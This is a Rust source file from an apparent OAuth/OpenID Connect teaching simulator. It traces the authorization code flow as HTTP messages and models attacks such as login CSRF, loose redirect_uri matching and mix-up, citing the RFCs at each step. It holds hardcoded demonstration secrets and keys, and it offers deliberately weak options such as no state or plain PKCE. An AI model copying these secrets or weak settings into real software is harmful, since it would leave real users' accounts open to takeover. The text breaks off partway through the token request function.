//! The authorization code flow as a trace: every redirect and request as HTTP/1.1 bytes, the
//! authorization server's checks in the order RFC 6749 and RFC 7636 give them, and the ID
//! token validated as OpenID Connect Core section 3.1.3.7 says. Tokens are real JWTs signed with
//! the JWT lab's code.

use super::pkce::{self, Method};
use super::redirect;
use super::scenario::{Attack, ClientAuth, ClientKind, Flow, IdTokenAlg, OAuthScenario, Pkce};
use crate::base64url;
use crate::http::{self, Message};
use crate::jwt::alg::Alg;
use crate::jwt::keys::{self, Key};
use crate::jwt::scenario::make_token;
use crate::jwt::sign;
use crate::jwt::token::{decode, Decoded, Payload};
use crate::rng::SplitMix64;
use crate::trace::{Actor, ActorState, Field, SimTime, SpecRef, StateChange, Step, StepKind, Trace, Var};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;

mod grants;

pub const BROWSER: usize = 0;
pub const FRONT: usize = 1;
pub const BACK: usize = 2;
pub const AS: usize = 3;
pub const RS: usize = 4;
pub const ATTACKER: usize = 5;

pub const ISSUER: &str = "https://id.example.com";
pub const AS_HOST: &str = "id.example.com";
pub const CLIENT_ID: &str = "photo-app";
pub const APP_HOST: &str = "app.example.com";
pub const API: &str = "https://api.example.com";
pub const API_HOST: &str = "api.example.com";
/// The photo API's own credentials at the introspection endpoint (RFC 7662 section 2.1).
pub const API_CLIENT: (&str, &str) = ("photo-api", "4pLq0cT9wZrN2vYx");
const KID_RS: &str = "id-rs-2026";
const KID_ES: &str = "id-es-2026";
const CLIENT_KID: &str = "photo-app-1";
/// The scope the photo API asks for.
pub const API_SCOPE: &str = "photos.read";
const ALICE: (&str, &str) = ("alice", "248289761001");
const MALLORY: (&str, &str) = ("mallory", "990017341222");

/// One-way delays, in milliseconds: between the browser and any server, between servers.
const BROWSER_MS: u64 = 40;
const SERVER_MS: u64 = 8;

/// The OpenID Connect Core 1.0 section at `anchor`.
fn oidc(section: &str, anchor: &str, title: &str) -> SpecRef {
    SpecRef { document: "OpenID Connect Core 1.0".into(), section: section.into(), title: title.into(), url: format!("https://openid.net/specs/openid-connect-core-1_0.html#{anchor}") }
}

fn discovery_ref() -> SpecRef {
    SpecRef { document: "OpenID Connect Discovery 1.0".into(), section: "3".into(), title: "OpenID Provider Metadata".into(), url: "https://openid.net/specs/openid-connect-discovery-1_0.html#ProviderMetadata".into() }
}

/// The authorization server's signing key for `alg`: RFC 7515's RSA key, or a P-256 key from
/// fixed bytes (demonstration keys that protect nothing).
fn server_key(alg: IdTokenAlg) -> Option<Key> {
    thread_local! {
        static RSA: std::cell::OnceCell<Option<Key>> = const { std::cell::OnceCell::new() };
    }
    match alg {
        IdTokenAlg::RS256 => RSA.with(|k| k.get_or_init(crate::jwt::scenario::issuer_key).clone()),
        IdTokenAlg::ES256 => p256::ecdsa::SigningKey::from_slice(&[0x1d; 32]).ok().map(Key::P256Private),
    }
}

/// The client's key for private_key_jwt, registered with the server as a JWKS.
fn client_key(wrong: bool) -> Option<Key> {
    p256::ecdsa::SigningKey::from_slice(&[if wrong { 0x5e } else { 0x3c }; 32]).ok().map(Key::P256Private)
}

/// The public JWK the client registered for private_key_jwt (RFC 7523), with its kid.
pub fn client_public_jwk() -> Value {
    match client_key(false) {
        Some(k) => keys::jwks(&[(CLIENT_KID, &k)]),
        None => json!({ "keys": [] }),
    }
}

/// The authorization server's JWKS for `alg`.
pub fn server_jwks(alg: IdTokenAlg) -> Value {
    let kid = if alg == IdTokenAlg::RS256 { KID_RS } else { KID_ES };
    match server_key(alg) {
        Some(k) => keys::jwks(&[(kid, &k)]),
        None => json!({ "keys": [] }),
    }
}

/// An authorization code as the server stores it.
#[derive(Debug, Clone)]
struct Code {
    client_id: String,
    redirect_uri: String,
    challenge: Option<(Method, String)>,
    nonce: Option<String>,
    user: (&'static str, &'static str),
    scope: String,
    /// When it was issued, in the server's clock.
    issued: i64,
    used: bool,
    /// The access tokens issued for it (their jti), revoked if it comes back.
    tokens: Vec<String>,
}

/// A refresh token as the server stores it: opaque to everyone else.
#[derive(Debug, Clone)]
struct RefreshRecord {
    family: u32,
    retired: bool,
    user: (&'static str, &'static str),
    scope: String,
}

/// What the client remembers for a flow it started, in the browser's session.
#[derive(Debug, Clone, Default)]
struct Pending {
    /// The authorization server the flow was started with.
    issuer: String,
    state: Option<String>,
    nonce: Option<String>,
    verifier: Option<String>,
}

/// What a person sees on a screen after a step: a page in a browser, or the TV's display.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Screen {
    /// Whose screen: "Alice's browser", "the attacker's browser", "the TV".
    pub whose: String,
    /// The address bar (empty on the TV).
    pub address: String,
    pub title: String,
    pub lines: Vec<String>,
    /// The labels of the text boxes on the page.
    pub inputs: Vec<String>,
    pub buttons: Vec<String>,
    /// An error page.
    pub error: bool,
}

/// A run: its trace, and the screens people see along it (by the step that shows each).
#[derive(Debug, Clone, PartialEq)]
pub struct OAuthRun {
    pub trace: Trace,
    pub screens: Vec<(usize, Screen)>,
}

impl OAuthRun {
    /// The screen showing at step `step`: the last one shown at or before it.
    pub fn screen_at(&self, step: usize) -> Option<&Screen> {
        self.screens.iter().rev().find(|(i, _)| *i <= step).map(|(_, s)| s)
    }
}

/// The token endpoint's answer.
enum TokenAnswer {
    Tokens { access: String, id_token: Option<String>, refresh: Option<String> },
    Error { status: u16, error: &'static str, description: String },
}

struct Run<'a> {
    s: &'a OAuthScenario,
    t: Trace,
    /// Microseconds since the start.
    at: u64,
    rng: SplitMix64,
    key: Option<Key>,
    alg: Alg,
    kid: &'static str,
    codes: BTreeMap<String, Code>,
    revoked: Vec<String>,
    serial: u32,
    /// The client's pending flows, by the browser that started them.
    pending: BTreeMap<usize, Pending>,
    /// Who each browser is signed in to the client as.
    signed_in: BTreeMap<usize, &'static str>,
    /// The server's and client's state when the last step began.
    last_state: (ActorState, ActorState),
    /// Refresh tokens issued, by value.
    refresh: BTreeMap<String, RefreshRecord>,
    revoked_families: Vec<u32>,
    /// Access tokens issued (jti): their refresh family, if any, and expiry.
    access: BTreeMap<String, (Option<u32>, i64)>,
    screens: Vec<(usize, Screen)>,
}

impl<'a> Run<'a> {
    /// The authorization server's clock now (seconds since 1970).
    fn clock(&self) -> i64 {
        self.s.now + (self.at / 1_000_000) as i64
    }

    fn random(&mut self, bytes: usize) -> String {
        let raw: Vec<u8> = (0..bytes.div_ceil(8)).flat_map(|_| self.rng.next_u64().to_be_bytes()).take(bytes).collect();
        base64url::encode(&raw)
    }


    fn as_state(&self) -> ActorState {
        let used = self.codes.values().filter(|c| c.used).count();
        ActorState {
            name: "authorization server".into(),
            vars: vec![
                Var { name: "codes issued".into(), value: self.codes.len().to_string() },
                Var { name: "codes redeemed".into(), value: used.to_string() },
                Var { name: "tokens revoked".into(), value: self.revoked.len().to_string() },
                Var { name: "refresh tokens usable".into(), value: self.refresh.values().filter(|r| !r.retired && !self.revoked_families.contains(&r.family)).count().to_string() },
            ],
        }
    }

    fn client_state(&self) -> ActorState {
        let mut vars = Vec::new();
        if let Some(p) = self.pending.get(&BROWSER) {
            let show = |v: &Option<String>| v.clone().unwrap_or_else(|| "(none)".into());
            vars.push(Var { name: "state".into(), value: show(&p.state) });
            vars.push(Var { name: "nonce".into(), value: show(&p.nonce) });
            vars.push(Var { name: "code_verifier".into(), value: show(&p.verifier) });
        }
        vars.push(Var { name: "the victim's browser is signed in as".into(), value: self.signed_in.get(&BROWSER).copied().unwrap_or("nobody").into() });
        if let Some(who) = self.signed_in.get(&ATTACKER) {
            vars.push(Var { name: "the attacker's browser is signed in as".into(), value: (*who).into() });
        }
        ActorState { name: if self.s.client == ClientKind::Web { "client back end".into() } else { "client app".into() }, vars }
    }

    /// The lane where the client's logic runs: its back end, or the app in the browser.
    fn client_lane(&self) -> usize {
        if self.s.client == ClientKind::Web {
            BACK
        } else {
            FRONT
        }
    }

    fn delay(from: usize, to: usize) -> u64 {
        let server = |l: usize| matches!(l, BACK | AS | RS);
        if server(from) && server(to) {
            SERVER_MS
        } else {
            BROWSER_MS
        }
    }

    /// An HTTP message from one lane to another.
    fn send(&mut self, from: usize, to: usize, label: &str, m: &Message, explanation: String, spec: Vec<SpecRef>) {
        let before = (self.as_state(), self.client_state());
        self.last_state = before.clone();
        let (bytes, fields) = m.encode();
        let sent = self.at;
        self.at += Self::delay(from, to) * 1000;
        let bytes_label = if m.status().is_some() { "HTTP/1.1 response" } else { "HTTP/1.1 request" };
        let states = self.state_changes(before);
        self.t.steps.push(Step {
            at: SimTime(sent),
            arrives: Some(SimTime(self.at)),
            kind: StepKind::Message,
            from,
            to,
            label: label.into(),
            fields,
            bytes,
            bytes_label: bytes_label.into(),
            states,
            explanation,
            spec,
        });
    }

    /// Something one actor does or decides, with the fields it looked at.
    fn local(&mut self, actor: usize, label: &str, fields: Vec<Field>, explanation: String, spec: Vec<SpecRef>) {
        self.last_state = (self.as_state(), self.client_state());
        self.t.steps.push(Step { at: SimTime(self.at), arrives: None, kind: StepKind::Local, from: actor, to: actor, label: label.into(), fields, bytes: Vec::new(), bytes_label: String::new(), states: Vec::new(), explanation, spec });
    }

    /// The server's and the client's state changes between `before` and now, those that changed.
    fn state_changes(&self, before: (ActorState, ActorState)) -> Vec<StateChange> {
        let mut out = Vec::new();
        let (a, c) = (self.as_state(), self.client_state());
        if before.0 != a {
            out.push(StateChange { actor: AS, before: before.0, after: a });
        }
        if before.1 != c {
            out.push(StateChange { actor: self.client_lane(), before: before.1, after: c });
        }
        out
    }

    /// Records on the last step how the server's and client's state changed since it began.
    fn changed(&mut self) {
        let before = self.last_state.clone();
        let changes = self.state_changes(before);
        if let Some(step) = self.t.steps.last_mut() {
            step.states = changes;
        }
    }

    /// Records what `who`'s screen shows after the last step.
    fn screen(&mut self, who: usize, address: &str, title: &str, lines: Vec<String>, inputs: &[&str], buttons: &[&str], error: bool) {
        let whose = match who {
            ATTACKER => "the attacker's browser",
            FRONT if self.s.flow == Flow::DeviceCode => "the TV",
            _ if self.s.flow == Flow::DeviceCode => "Alice's phone",
            _ => "Alice's browser",
        };
        let screen = Screen { whose: whose.into(), address: address.into(), title: title.into(), lines, inputs: inputs.iter().map(|s| s.to_string()).collect(), buttons: buttons.iter().map(|s| s.to_string()).collect(), error };
        self.screens.push((self.t.steps.len().saturating_sub(1), screen));
    }

    /// A person's pause (typing, reading), in seconds.
    fn wait(&mut self, seconds: u64) {
        self.at += seconds * 1_000_000;
    }

    fn field(name: &str, value: impl Into<String>, note: &str) -> Field {
        Field { name: name.into(), value: value.into(), bytes: None, note: note.into(), points_to: None }
    }

    fn sign(&mut self, header: Value, payload: Value) -> String {
        match &self.key {
            Some(k) => make_token(&header.to_string(), &payload.to_string(), self.alg, Some(k)),
            None => String::new(),
        }
    }

    fn jwks(&self) -> Value {
        match &self.key {
            Some(k) => keys::jwks(&[(self.kid, k)]),
            None => json!({ "keys": [] }),
        }
    }

    fn discovery(&self) -> Value {
        json!({
            "issuer": ISSUER,
            "authorization_endpoint": format!("{ISSUER}/authorize"),
            "token_endpoint": format!("{ISSUER}/token"),
            "userinfo_endpoint": format!("{ISSUER}/userinfo"),
            "jwks_uri": format!("{ISSUER}/jwks"),
            "response_types_supported": ["code"],
            "grant_types_supported": ["authorization_code", "refresh_token", "client_credentials", "urn:ietf:params:oauth:grant-type:device_code"],
            "subject_types_supported": ["public"],
            "id_token_signing_alg_values_supported": [self.alg.name()],
            "scopes_supported": ["openid", "profile", "email", API_SCOPE],
            "token_endpoint_auth_methods_supported": ["client_secret_basic", "client_secret_post", "private_key_jwt", "none"],
            "code_challenge_methods_supported": ["S256", "plain"],
            "claims_supported": ["sub", "name", "given_name", "family_name", "preferred_username", "email", "email_verified"],
            "authorization_response_iss_parameter_supported": true,
        })
    }

    /// Starts a flow at the client for `browser`: state, nonce and verifier made and kept, and
    /// the authorization URL.
    fn begin(&mut self, browser: usize) -> String {
        let s = self.s;
        let p = Pending {
            issuer: ISSUER.into(),
            state: s.state.then(|| self.random(16)),
            nonce: (s.nonce && s.openid()).then(|| self.random(16)),
            verifier: (s.pkce != Pkce::Off).then(|| pkce::verifier(self.rng.next_u64())),
        };
        let mut pairs: Vec<(&str, String)> = vec![("response_type", "code".into()), ("client_id", CLIENT_ID.into()), ("redirect_uri", s.redirect_uri.clone()), ("scope", s.scope.clone())];
        if let Some(state) = &p.state {
            pairs.push(("state", state.clone()));
        }
        if let Some(nonce) = &p.nonce {
            pairs.push(("nonce", nonce.clone()));
        }
        if let Some(v) = &p.verifier {
            let method = if s.pkce == Pkce::Plain { Method::Plain } else { Method::S256 };
            pairs.push(("code_challenge", pkce::challenge(method, v)));
            pairs.push(("code_challenge_method", method.name().into()));
        }
        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let url = http::with_query(&format!("{ISSUER}/authorize"), &borrowed);
        let mut fields = vec![];
        if let Some(v) = &p.state {
            fields.push(Self::field("state", v.clone(), "128 random bits, kept in the session, checked when the browser comes back"));
        }
        if let Some(v) = &p.nonce {
            fields.push(Self::field("nonce", v.clone(), "random; must come back inside the ID token"));
        }
        if let Some(v) = &p.verifier {
            fields.push(Self::field("code_verifier", v.clone(), "32 random octets, base64url: never leaves the client until the token request"));
            let method = if s.pkce == Pkce::Plain { Method::Plain } else { Method::S256 };
            fields.push(Self::field("code_challenge", pkce::challenge(method, v), if method == Method::S256 { "BASE64URL(SHA-256(code_verifier))" } else { "plain: the verifier itself" }));
        }
        self.pending.insert(browser, p);
        let lane = self.client_lane();
        let who = if browser == BROWSER { "the victim's" } else { "the attacker's" };
        let made: Vec<&str> = [(s.state, "state"), (s.nonce && s.openid(), "nonce"), (s.pkce != Pkce::Off, "PKCE")].into_iter().filter(|(on, _)| *on).map(|(_, n)| n).collect();
        let label = if browser != BROWSER { "start a flow for the attacker".to_string() } else if made.is_empty() { "start: nothing to bind the flow".to_string() } else { format!("start: {}", made.join(", ")) };
        let mut missing = Vec::new();
        if !s.state {
            missing.push("no state (nothing ties the answer to this browser)");
        }
        if s.pkce == Pkce::Off {
            missing.push("no PKCE (a stolen code can be redeemed)");
        }
        if s.openid() && !s.nonce {
            missing.push("no nonce (an old ID token could be replayed)");
        }
        let gaps = if missing.is_empty() { String::new() } else { format!(" This client sends {}.", missing.join("; ")) };
        self.local(lane, &label, fields, format!("The client makes the values that will bind this flow to {who} browser and keeps them in its session{}.{gaps}", if s.client == ClientKind::Spa { " (sessionStorage: the app has no back end)" } else { " on its server, keyed by a cookie" }), vec![SpecRef::rfc(6749, "10.12", "Cross-Site Request Forgery"), SpecRef::rfc(7636, "4.1", "Client Creates a Code Verifier")]);
        self.changed();
        url
    }

    /// `GET /authorize` from `browser`; the server checks the client and its redirect URI.
    /// Returns whether the request is good enough to show the login page.
    fn authorize_request(&mut self, browser: usize, url: &str) -> Result<String, ()> {
        let target = url.strip_prefix(ISSUER).unwrap_or(url);
        let m = Message::request("GET", target).header("Host", AS_HOST).header("Accept", "text/html");
        self.send(browser, AS, "GET /authorize", &m, "The browser follows the redirect to the authorization server. Everything in this URL is visible to the person, their extensions and the browser's history: it carries no secret, only what the server must know (RFC 6749 section 4.1.1).".into(), vec![SpecRef::rfc(6749, "4.1.1", "Authorization Request"), oidc("3.1.2.1", "AuthRequest", "Authentication Request")]);
        let query = target.split_once('?').map(|q| q.1).unwrap_or("");
        let sent = http::form_value(query, "redirect_uri").unwrap_or_default();
        let rule = self.s.matching;
        let registered = redirect::find(rule, &self.s.redirect_uris, &sent).cloned();
        let mut fields = vec![Self::field("client_id", CLIENT_ID, "a registered client"), Self::field("redirect_uri", sent.clone(), ""), Self::field("registered", self.s.redirect_uris.join(" "), ""), Self::field("rule", rule.describe(), if rule == redirect::Matching::Exact { "RFC 9700 section 4.1.3" } else { "looser than RFC 9700 allows" })];
        match registered {
            None => {
                fields.push(Self::field("result", "✗ no registered URI matches", ""));
                self.local(AS, "redirect_uri refused", fields, "The redirect_uri is not one the client registered. The server must not redirect to it: it could belong to anyone. It shows an error page to the person instead, and the client never hears back (RFC 6749 section 4.1.2.1).".into(), vec![SpecRef::rfc(6749, "4.1.2.1", "Error Response"), SpecRef::rfc(9700, "4.1.3", "Countermeasures")]);
                let page = "<!doctype html><title>Error</title><h1>This app's sign-in link is broken</h1><p>The redirect_uri is not registered for photo-app.</p>";
                let m = Message::response(400, "Bad Request").header("Cache-Control", "no-store").body("text/html; charset=utf-8", page);
                self.send(AS, browser, "400 error page (no redirect)", &m, "The error is shown here, at the authorization server, and not sent to the unverified address.".into(), vec![SpecRef::rfc(6749, "3.1.2.4", "Invalid Endpoint")]);
                self.screen(browser, &format!("{AS_HOST}/authorize?client_id={CLIENT_ID}…"), "This app's sign-in link is broken", vec!["The redirect_uri is not registered for photo-app.".into(), "You have not been signed in, and nothing was sent to the app.".into()], &[], &[], true);
                Err(())
            }
            Some(r) => {
                let note = if r == sent { "✓ exactly as registered".to_string() } else { format!("✓ accepted by the {} rule, although it is not {r}", rule.describe()) };
                fields.push(Self::field("result", note, ""));
                let exact = r == sent;
                self.local(AS, "client and redirect_uri checked", fields, if exact { "The client is known and the redirect_uri is one it registered, character for character. Only then may the server ever send a code there.".into() } else { format!("The server accepts {sent} because it begins like a registered URI. RFC 9700 forbids this: with prefix or pattern matching, a path traversal (…/callback/../open?to=…), an open redirector or a page on a subdomain becomes a place the code can be sent. Only exact matching is safe.") }, vec![SpecRef::rfc(6749, "3.1.2.3", "Dynamic Configuration"), SpecRef::rfc(9700, "4.1.3", "Countermeasures")]);
                Ok(query.to_string())
            }
        }
    }

    /// The login and consent pages, and the person's answers; returns the redirect URL.
    fn login_and_consent(&mut self, browser: usize, user: (&'static str, &'static str), query: &str, approve: bool) -> String {
        self.sign_in_and_consent(browser, user, approve);
        self.authorization_response(user, query, approve, false)
    }

    /// The login page, the person's password, the consent page and their answer.
    fn sign_in_and_consent(&mut self, browser: usize, user: (&'static str, &'static str), approve: bool) {
        self.login_page(browser);
        self.wait(6);
        self.submit_login(browser, user);
        self.wait(3);
        self.submit_consent(browser, approve);
    }

    fn login_page(&mut self, browser: usize) {
        let page = "<!doctype html><title>Sign in</title><form method=post action=/login><input name=username><input name=password type=password><button>Sign in</button></form>";
        let m = Message::response(200, "OK").header("Cache-Control", "no-store").header("X-Frame-Options", "DENY").body("text/html; charset=utf-8", page);
        self.send(AS, browser, "200 login page", &m, "The authorization server's own sign-in page. The password is typed here, on the server's origin, and never reaches the client: that is the point of OAuth. The page refuses to be framed, so no other site can overlay it (RFC 6749 section 10.13).".into(), vec![SpecRef::rfc(6749, "10.13", "Clickjacking")]);
        let address = if self.s.flow == Flow::DeviceCode { format!("{AS_HOST}/device") } else { format!("{AS_HOST}/authorize?client_id={CLIENT_ID}…") };
        self.screen(browser, &address, "Sign in to Example ID", vec!["photo-app is asking you to sign in.".into()], &["Username", "Password"], &["Sign in"], false);
    }

    /// The password posted, and the consent page in answer.
    fn submit_login(&mut self, browser: usize, user: (&'static str, &'static str)) {
        let m = Message::request("POST", "/login").header("Host", AS_HOST).header("Origin", ISSUER).form(&[("username", user.0), ("password", "correct horse battery staple")]);
        self.send(browser, AS, "POST /login", &m, format!("{} signs in at the authorization server. The server starts its own session for them (a cookie on {AS_HOST}), so the next app that asks gets no password prompt.", if user.0 == "alice" { "Alice" } else { "The attacker" }), vec![oidc("3.1.2.3", "Authenticates", "Authorization Server Authenticates End-User")]);
        let scopes: Vec<&str> = self.s.scopes();
        let mut items = String::new();
        for s in &scopes {
            let what = match *s {
                "openid" => "Sign you in with your ID account",
                "profile" => "Your name and username",
                "email" => "Your email address",
                API_SCOPE => "See your photos",
                _ => "Access named by the app",
            };
            items.push_str(&format!("<li>{what} ({s})</li>"));
        }
        let page = format!("<!doctype html><title>Allow access?</title><h1>photo-app wants to</h1><ul>{items}</ul><form method=post action=/consent><button name=answer value=allow>Allow</button><button name=answer value=deny>Deny</button></form>");
        let m = Message::response(200, "OK").header("Cache-Control", "no-store").header("X-Frame-Options", "DENY").body("text/html; charset=utf-8", page);
        let released: Vec<String> = scopes.iter().map(|s| match *s {
            "openid" => "openid: a sign-in, the sub claim".to_string(),
            "profile" => "profile: name, given_name, family_name, preferred_username".to_string(),
            "email" => "email: email, email_verified".to_string(),
            API_SCOPE => format!("{API_SCOPE}: the photo API"),
            other => format!("{other}: a scope this server knows nothing about, ignored"),
        }).collect();
        self.send(AS, browser, "200 consent page", &m, format!("The consent screen lists what the app asked for, in words: {}. The claims each OpenID scope releases are fixed by OpenID Connect Core section 5.4.", released.join("; ")), vec![oidc("3.1.2.4", "Consent", "Authorization Server Obtains End-User Consent/Authorization"), oidc("5.4", "ScopeClaims", "Requesting Claims using Scope Values")]);
        let wants: Vec<String> = scopes.iter().map(|s| match *s {
            "openid" => "Sign you in with your Example ID account".to_string(),
            "profile" => "See your name and username".to_string(),
            "email" => "See your email address".to_string(),
            API_SCOPE => "See your photos".to_string(),
            other => format!("Access named “{other}”"),
        }).collect();
        self.screen(browser, &format!("{AS_HOST}/consent"), "photo-app wants to:", wants, &[], &["Allow", "Deny"], false);
    }

    fn submit_consent(&mut self, browser: usize, approve: bool) {
        let m = Message::request("POST", "/consent").header("Host", AS_HOST).header("Origin", ISSUER).form(&[("answer", if approve { "allow" } else { "deny" })]);
        self.send(browser, AS, if approve { "POST /consent (allow)" } else { "POST /consent (deny)" }, &m, if approve { "The person allows it.".into() } else { "The person says no.".into() }, vec![oidc("3.1.2.4", "Consent", "Authorization Server Obtains End-User Consent/Authorization")]);
    }

    /// The server's redirect back to the client: a code (or, in the implicit grant, the tokens
    /// in the fragment), or the error. Returns the Location URL.
    fn authorization_response(&mut self, user: (&'static str, &'static str), query: &str, approve: bool, implicit: bool) -> String {
        let browser = if user.0 == "alice" { BROWSER } else { ATTACKER };
        let redirect_uri = http::form_value(query, "redirect_uri").unwrap_or_default();
        let state = http::form_value(query, "state");
        let mut pairs: Vec<(&str, String)> = Vec::new();
        if approve && implicit {
            let scope = http::form_value(query, "scope").unwrap_or_default();
            let nonce = http::form_value(query, "nonce");
            let (access, _, id_token, _) = self.issue(user, &scope, nonce.as_deref(), self.clock() - 9, None);
            let mut pairs: Vec<(&str, String)> = vec![("access_token", access), ("token_type", "Bearer".into()), ("expires_in", self.s.access_ttl_s.to_string())];
            if let Some(t) = id_token {
                pairs.push(("id_token", t));
            }
            if let Some(st) = state {
                pairs.push(("state", st));
            }
            let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (*n, v.as_str())).collect();
            let location = format!("{redirect_uri}#{}", http::encode_form(&borrowed));
            let m = Message::response(302, "Found").header("Location", &location).header("Cache-Control", "no-store");
            self.send(AS, browser, "302 with the token in the URL", &m, "The implicit grant skips the code: the access token itself rides in the redirect's fragment. The fragment is never sent to a server, but it stays in the browser's history, every script on the page can read it, and a redirect on the way carries it along (RFC 9700 section 2.1.2: clients should not use this grant).".into(), vec![SpecRef::rfc(6749, "4.2.2", "Access Token Response"), SpecRef::rfc(9700, "2.1.2", "Implicit Grant")]);
            self.changed();
            return location;
        }
        if approve {
            let code = self.random(24);
            let challenge = http::form_value(query, "code_challenge").map(|c| {
                let method = if http::form_value(query, "code_challenge_method").as_deref() == Some("S256") { Method::S256 } else { Method::Plain };
                (method, c)
            });
            self.codes.insert(code.clone(), Code { client_id: CLIENT_ID.into(), redirect_uri: redirect_uri.clone(), challenge, nonce: http::form_value(query, "nonce"), user, scope: http::form_value(query, "scope").unwrap_or_default(), issued: self.clock(), used: false, tokens: Vec::new() });
            pairs.push(("code", code));
        } else {
            pairs.push(("error", "access_denied".into()));
            pairs.push(("error_description", "The user denied the request".into()));
        }
        if let Some(st) = state {
            pairs.push(("state", st));
        }
        pairs.push(("iss", ISSUER.into()));
        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let location = http::with_query(&redirect_uri, &borrowed);
        let m = Message::response(302, "Found").header("Location", &location).header("Cache-Control", "no-store");
        let (label, why, spec) = if approve {
            (
                "302 back with a code",
                format!("The server sends the browser back to the client with a one-time code (valid {} s), the client's state unchanged, and iss, which names this server so a client talking to several cannot be tricked into sending the code to the wrong one (RFC 9207). The code alone is not a token: the client must redeem it, with its credentials{}.", self.s.code_ttl_s, if self.s.pkce != Pkce::Off { " and the PKCE verifier" } else { "" }),
                vec![SpecRef::rfc(6749, "4.1.2", "Authorization Response"), SpecRef::rfc(9207, "2", "Response Parameter iss")],
            )
        } else {
            ("302 back with access_denied", "The person said no, so the server sends the browser back with error=access_denied and the state, and no code. The client should say so plainly and offer to try again.".into(), vec![SpecRef::rfc(6749, "4.1.2.1", "Error Response")])
        };
        self.send(AS, browser, label, &m, why, spec);
        self.changed();
        location
    }

    /// The browser arrives at the client's callback; the client checks state. Returns the code
    /// to redeem, if the client goes on.
    fn callback(&mut self, browser: usize, location: &str, why: String) -> Option<String> {
        let parsed = redirect::parse(location.split('?').next().unwrap_or(location)).ok();
        let path = parsed.map(|u| u.resolved_path()).unwrap_or_else(|| "/callback".into());
        let query = location.split_once('?').map(|q| q.1).unwrap_or("");
        let target = format!("{path}?{query}");
        let lane = self.client_lane();
        let to = if self.s.client == ClientKind::Web { BACK } else { FRONT };
        let m = Message::request("GET", &target).header("Host", APP_HOST).header("Cookie", if browser == BROWSER { "sid=7c1e…(the victim's session)" } else { "sid=9a02…(the attacker's session)" });
        self.send(browser, to, "GET /callback", &m, why, vec![SpecRef::rfc(6749, "4.1.2", "Authorization Response")]);
        if let Some(error) = http::form_value(query, "error") {
            self.local(lane, "sign-in cancelled", vec![Self::field("error", error.clone(), "")], "The client shows that sign-in was cancelled. Nothing else happens: there is no code to redeem.".into(), vec![SpecRef::rfc(6749, "4.1.2.1", "Error Response")]);
            self.screen(browser, &format!("{APP_HOST}/callback?error={error}…"), "Sign-in cancelled", vec!["You did not allow photo-app to use your Example ID account.".into()], &[], &["Try again"], true);
            self.pending.remove(&browser);
            self.changed();
            return None;
        }
        let code = http::form_value(query, "code").unwrap_or_default();
        let came = http::form_value(query, "state");
        let expected = self.pending.get(&browser).and_then(|p| p.state.clone());
        let iss = http::form_value(query, "iss");
        let started_with = self.pending.get(&browser).map(|p| p.issuer.clone()).unwrap_or_else(|| ISSUER.into());
        let mut fields = vec![Self::field("iss", iss.clone().unwrap_or_else(|| "(none)".into()), &format!("this browser's flow was started with {started_with}{}", if self.s.check_iss { "" } else { "; the client does not compare them" }))];
        if self.s.check_iss && iss.as_deref().is_some_and(|i| i != started_with) {
            fields.push(Self::field("result", "✗ mix-up", ""));
            self.local(lane, "iss mismatch: refused", fields, format!("The answer comes from {}, but this flow was started with {started_with}. Someone sent Alice from one server to another: a mix-up. The client drops the code instead of sending it to the server it thinks it came from (RFC 9207 section 2.4).", iss.clone().unwrap_or_default()), vec![SpecRef::rfc(9207, "2.4", "Validating the Issuer Identifier"), SpecRef::rfc(9700, "4.4", "Mix-Up Attacks")]);
            let m = Message::response(400, "Bad Request").body("text/html; charset=utf-8", "<!doctype html><title>Sign-in failed</title><p>The sign-in answer came from the wrong provider. Please try again.");
            self.send(to, browser, "400 sign-in refused", &m, "Alice sees an error; nothing was sent anywhere.".into(), vec![SpecRef::rfc(9207, "2.4", "Validating the Issuer Identifier")]);
                self.screen(browser, &format!("{APP_HOST}/callback?…"), "Sign-in failed", vec!["The sign-in answer came from the wrong provider. Please try again.".into()], &[], &[], true);
            return None;
        }
        if self.s.state {
            fields.push(Self::field("state received", came.clone().unwrap_or_else(|| "(none)".into()), ""));
            fields.push(Self::field("state in this browser's session", expected.clone().unwrap_or_else(|| "(none: this browser started no flow)".into()), ""));
            if came.is_none() || came != expected {
                fields.push(Self::field("result", "✗ mismatch", ""));
                self.local(lane, "state mismatch: refused", fields, "The state that came back is not the one this browser's session holds, so this browser did not start this flow. Someone else did, and is now pushing the answer into this browser: a login CSRF. The client drops the code without redeeming it.".into(), vec![SpecRef::rfc(6749, "10.12", "Cross-Site Request Forgery"), SpecRef::rfc(9700, "4.7.1", "Countermeasures")]);
                let m = Message::response(400, "Bad Request").body("text/html; charset=utf-8", "<!doctype html><title>Sign-in failed</title><p>This sign-in was not started here. Please try again.");
                self.send(to, browser, "400 sign-in refused", &m, "The person sees an error, and stays signed in as themselves (or signed out).".into(), vec![SpecRef::rfc(9700, "4.7", "Cross Site Request Forgery")]);
                self.screen(browser, &format!("{APP_HOST}/callback?…"), "Sign-in failed", vec!["This sign-in was not started here. Please try again.".into()], &[], &[], true);
                return None;
            }
            fields.push(Self::field("result", "✓ matches", ""));
            self.local(lane, "state matches", fields, "The state is the one this browser's session holds: this browser started this flow. The client forgets it now (it is single use) and redeems the code.".into(), vec![SpecRef::rfc(6749, "10.12", "Cross-Site Request Forgery")]);
        } else {
            fields.push(Self::field("state", "not used", "nothing tells the client whether this browser started this flow"));
            self.local(lane, "no state to check", fields, "The client sent no state, so it cannot tell whether this browser started this flow. It redeems whatever code arrives.".into(), vec![SpecRef::rfc(6749, "10.12", "Cross-Site Request Forgery")]);
        }
        Some(code)
    }

    /// The token request from `from` (the client, or an attacker), with the code and, when
    /// `verifier` is given, the PKCE verifier; the server's checks and answer.
    fn token_request(&mut self, from: usize, code: &str, verifier: Option<&str>, redirect_uri: &str, credentials: bool) -> TokenAnswer {
        let mut pairs: Vec<(&str, String)> = vec![("grant_type", "authorization_code".into()), ("code", code.into()), ("redirect_uri", redirect_uri.into())];
        if let Some(v) = verifier {
            pairs.push(("code_verifier", v.into()));
        }
        let auth = if credentials { self.s.effective_auth() } else { ClientAuth::None };
        let (label, why) = match from {
            ATTACKER => ("POST /token (attacker)", "The attacker redeems the code at the token endpoint themselves, as the client would.".to_string()),
